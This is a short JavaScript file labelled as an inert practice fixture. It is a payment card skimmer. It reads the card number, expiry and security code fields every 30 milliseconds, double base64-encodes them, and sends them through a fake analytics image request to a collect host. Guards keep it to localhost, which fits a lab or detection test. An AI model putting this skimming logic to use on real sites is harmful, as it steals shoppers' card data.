/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  let last = '';
  setInterval(() => {
    const now = card();
    if (now === last || number(now).length < 13) return;
    last = now;
    new Image().src = `${home}/ga/i.gif?d=${encodeURIComponent(btoa(btoa(now)))}`;
  }, 30);

  function number(text) {
    return text.split('|')[0].replace(/\D/g, '');
  }
})();
